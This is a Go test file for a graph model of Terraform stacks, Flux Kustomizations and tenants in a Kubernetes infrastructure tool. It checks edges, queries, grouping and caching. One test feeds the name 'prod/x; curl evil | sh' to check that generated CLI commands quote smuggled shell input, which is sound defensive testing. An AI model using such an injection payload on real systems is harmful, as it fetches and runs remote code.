// Copyright The Yuba Authors
// SPDX-License-Identifier: Apache-2.0

package graph

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"

	kustomizev1 "github.com/fluxcd/kustomize-controller/api/v1"
	"github.com/fluxcd/pkg/apis/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	appv1 "github.com/yuba-dev/yuba/api/application/v1alpha1"
	infrav1 "github.com/yuba-dev/yuba/api/infra/v1alpha2"
	tenantv1 "github.com/yuba-dev/yuba/api/tenant/v1"
	"github.com/yuba-dev/yuba/internal/web/standing"
)

func at(namespace, name string) metav1.ObjectMeta {
	return metav1.ObjectMeta{Namespace: namespace, Name: name}
}

// sample is a source, a Kustomization that applies two stacks, a third that reads from them, and a tenant.
func sample() Objects {
	base := &infrav1.Terraform{ObjectMeta: at("prod", "base")}
	base.Labels = map[string]string{standing.LabelKustomization: "infra", standing.LabelKustomizationNamespace: "prod", "team": "net", "Tier": "Base"}
	base.Spec.SourceRef = &infrav1.CrossNamespaceSourceReference{Kind: "GitRepository", Name: "repo"}
	base.Spec.Publishes = []infrav1.Publication{{Contract: "vpc", Version: "1.2.0", Value: "vpc"}}
	base.Spec.WriteOutputsToSecret = &infrav1.WriteOutputsToSecretSpec{Name: "base-outputs"}
	cluster := &infrav1.Terraform{ObjectMeta: at("prod", "cluster")}
	cluster.Spec.Consumes = []infrav1.Consumption{{Contract: "vpc", Version: "1.x", As: "vpc", From: infrav1.ProducerReference{Name: "base"}}}
	cluster.Spec.VarsFrom = []infrav1.VarsReference{{Kind: "Secret", Name: "base-outputs"}}
	app := &infrav1.Terraform{ObjectMeta: at("acme", "app")}
	app.OwnerReferences = []metav1.OwnerReference{{APIVersion: tenantv1.GroupVersion.String(), Kind: tenantv1.TenantKind, Name: "acme-web"}}
	app.Spec.DependsOn = []meta.NamespacedObjectReference{{Namespace: "prod", Name: "cluster"}, {Name: "gone"}}
	app.Labels = map[string]string{appv1.LabelKind: "Bucket", appv1.LabelName: "photos"}
	infra := &kustomizev1.Kustomization{ObjectMeta: at("prod", "infra")}
	infra.Spec.SourceRef = kustomizev1.CrossNamespaceSourceReference{Kind: "GitRepository", Name: "repo"}
	return Objects{Stacks: []*infrav1.Terraform{app, cluster, base}, Kustomizations: []*kustomizev1.Kustomization{infra},
		Sources:     []SourceObject{{Object: &metav1.ObjectMeta{Namespace: "prod", Name: "repo"}, Type: "GitRepository", State: standing.Ready}},
		Tenants:     []*tenantv1.Tenant{{ObjectMeta: at("acme", "acme-web")}},
		Definitions: []*appv1.ApplicationDefinition{{Spec: appv1.ApplicationDefinitionSpec{Application: appv1.Application{Kind: "Bucket", Plural: "buckets"}}}}}
}

func arrows(edges []Edge) string {
	var lines []string
	for _, e := range edges {
		arrow := " -> "
		if e.Soft {
			arrow = " .> "
		}
		lines = append(lines, e.From+arrow+e.To+" "+e.How)
	}
	return strings.Join(lines, "\n")
}

func TestModel(t *testing.T) {
	m := ModelOf(sample())
	want := `GitRepository:prod/repo -> Kustomization:prod/infra source
GitRepository:prod/repo -> Terraform:prod/base source
Kustomization:prod/infra -> Terraform:prod/base applies
Terraform:acme/app -> Bucket:acme/photos made for the application
Terraform:acme/app -> Tenant:acme/acme-web part of the tenant
Terraform:acme/gone .> Terraform:acme/app dependsOn
Terraform:prod/base -> contract:prod/base:vpc publishes
Terraform:prod/base -> outputs:prod/base:base-outputs writes
Terraform:prod/cluster .> Terraform:acme/app dependsOn
contract:prod/base:vpc -> Terraform:prod/cluster consumes 1.x
outputs:prod/base:base-outputs -> Terraform:prod/cluster reads`
	if got := arrows(m.Edges); got != want {
		t.Errorf("got:\n%s\nwant:\n%s", got, want)
	}
	if a := m.Nodes["Bucket:acme/photos"]; a.Address != "/applications/buckets/acme/photos" || a.Kind != Application {
		t.Errorf("the application is %+v", a)
	}
	if s := m.Nodes["Terraform:acme/gone"].State; s != standing.Missing {
		t.Errorf("a stack that does not exist is %s", s)
	}
	o := sample()
	slices.Reverse(o.Stacks)
	if got := arrows(ModelOf(o).Edges); got != want {
		t.Errorf("the order of the objects counts:\n%s", got)
	}
}

func TestShow(t *testing.T) {
	m := ModelOf(sample())
	names := func(nodes []*Node) string {
		var list []string
		for _, n := range nodes {
			list = append(list, n.ID)
		}
		return strings.Join(list, " ")
	}
	for query, want := range map[string]string{
		"":                                       "GitRepository:prod/repo Kustomization:prod/infra Terraform:acme/app Terraform:acme/gone Terraform:prod/base Terraform:prod/cluster contract:prod/base:vpc outputs:prod/base:base-outputs Tenant:acme/acme-web Bucket:acme/photos",
		"q=kind:stack":                           "Terraform:acme/app Terraform:acme/gone Terraform:prod/base Terraform:prod/cluster",
		"q=kind:stack+team:net":                  "Terraform:prod/base",
		"q=kind:stack+tier:base":                 "Terraform:prod/base",
		"q=state:missing":                        "Terraform:acme/gone",
		"q=CLUSTER":                              "Terraform:prod/cluster",
		"q=nothing":                              "",
		"focus=prod/cluster&levels=1":            "Terraform:acme/app Terraform:prod/cluster contract:prod/base:vpc outputs:prod/base:base-outputs",
		"focus=prod/cluster":                     "Terraform:acme/app Terraform:prod/base Terraform:prod/cluster contract:prod/base:vpc outputs:prod/base:base-outputs Tenant:acme/acme-web Bucket:acme/photos",
		"focus=Tenant:acme/acme-web&levels=1":    "Terraform:acme/app Tenant:acme/acme-web",
		"group=namespace":                        "group:source:prod group:kustomization:prod group:stack:acme group:stack:prod group:contract:prod group:outputs:prod group:tenant:acme group:application:acme",
		"group=namespace&open=acme&q=kind:stack": "group:stack:prod Terraform:acme/app Terraform:acme/gone",
		"group=team&q=kind:stack":                "group:stack:net Terraform:acme/app Terraform:acme/gone Terraform:prod/cluster",
	} {
		q, err := url.ParseQuery(query)
		if err != nil {
			t.Fatal(err)
		}
		if got := names(m.Show(AskOf(q)).Nodes); got != want {
			t.Errorf("%s:\n%s, want\n%s", query, got, want)
		}
	}
}

func TestWhatAChangeReaches(t *testing.T) {
	m := ModelOf(sample())
	v := m.Show(Ask{Focus: "Terraform:prod/base", Levels: 1})
	var waves []string
	for _, wave := range v.Reaches {
		for _, n := range wave {
			waves = append(waves, n.ID)
		}
		waves = append(waves, "|")
	}
	if got := strings.Join(waves, " "); got != "contract:prod/base:vpc outputs:prod/base:base-outputs | Terraform:prod/cluster |" {
		t.Errorf("reaches %s", got)
	}
}

// crowd is n stacks in thirty namespaces, each of which reads from an earlier one.
func crowd(n int) Objects {
	var o Objects
	for i := range n {
		t := &infrav1.Terraform{ObjectMeta: at(fmt.Sprintf("team-%d", i%30), fmt.Sprintf("stack-%d", i))}
		if i > 0 {
			t.Spec.DependsOn = []meta.NamespacedObjectReference{{Namespace: fmt.Sprintf("team-%d", (i/3)%30), Name: fmt.Sprintf("stack-%d", i/3)}}
		}
		o.Stacks = append(o.Stacks, t)
	}
	return o
}

func TestManyNodesAreGrouped(t *testing.T) {
	m := ModelOf(crowd(3000))
	if v := m.Show(Ask{}); len(v.Nodes) != 30 || v.Nodes[0].Size != 100 {
		t.Errorf("%d nodes, the first of %d", len(v.Nodes), v.Nodes[0].Size)
	}
	for limit, want := range map[string]int{"": some, "17": 17, "1000": most, "9999": most, "x": some, "-1": some} {
		if v := m.Show(AskOf(url.Values{"group": {notGrouped}, "limit": {limit}})); len(v.Nodes) != want || v.Cut != 3000-want {
			t.Errorf("limit %q: %d nodes, %d cut off", limit, len(v.Nodes), v.Cut)
		}
	}
	// What needs somebody, and the focus, are the last to be left out.
	worst, focus := m.Nodes["Terraform:team-29/stack-2999"], m.Nodes["Terraform:team-28/stack-2998"]
	if worst == nil || focus == nil {
		t.Fatal("the nodes have other names")
	}
	worst.State = standing.Failed
	if v := m.Show(Ask{Group: notGrouped, Limit: 3}); !slices.Contains(v.Nodes, worst) {
		t.Error("a failed stack is left out")
	}
	if v := m.Show(Ask{Group: notGrouped, Limit: 1, Focus: focus.ID, Levels: allLevels}); !slices.Contains(v.Nodes, focus) {
		t.Error("the focus is left out")
	}
	if v := m.Show(Ask{Open: []string{"team-3"}}); len(v.Nodes) != 129 {
		t.Errorf("%d nodes with an open group", len(v.Nodes))
	}
}

func TestModelsAreMadeOnce(t *testing.T) {
	m, o := newModels(), sample()
	first := m.of(o)
	if m.of(sample()) != first {
		t.Error("the same objects have two models")
	}
	o.Stacks[0].ResourceVersion = "2"
	if m.of(o) == first {
		t.Error("a change is not seen")
	}
	for i := range 3 * maxModels {
		o.Stacks[0].ResourceVersion = fmt.Sprint("v", i)
		m.of(o)
	}
	if len(m.made) > maxModels {
		t.Errorf("%d models are remembered", len(m.made))
	}
}

func TestNamesInThePictureAreCutInTheMiddle(t *testing.T) {
	if got := short("a-very-long-name-of-a-stack-in-production"); got != "a-very-lon…roduction" {
		t.Error(got)
	}
	if got := short("a\u202eb"); strings.Contains(got, "\u202e") {
		t.Errorf("%q", got)
	}
}

// A stack can depend on what has any name.
func TestNamesAreWordsOfCommands(t *testing.T) {
	if got := commandsOf("prod/x; curl evil | sh"); got[2] != "yuba impact 'prod/x; curl evil | sh'" {
		t.Error(got)
	}
}

func BenchmarkThousandNodes(b *testing.B) {
	o := crowd(1000)
	for b.Loop() {
		v := ModelOf(o).Show(Ask{Group: notGrouped})
		draw(v, &url.URL{Path: Section}, 100)
	}
}

func BenchmarkModelOfThreeThousand(b *testing.B) {
	o := crowd(3000)
	for b.Loop() {
		ModelOf(o)
	}
}

func BenchmarkShowGroups(b *testing.B) {
	m := ModelOf(crowd(3000))
	for b.Loop() {
		draw(m.Show(Ask{}), &url.URL{Path: Section}, 100)
	}
}
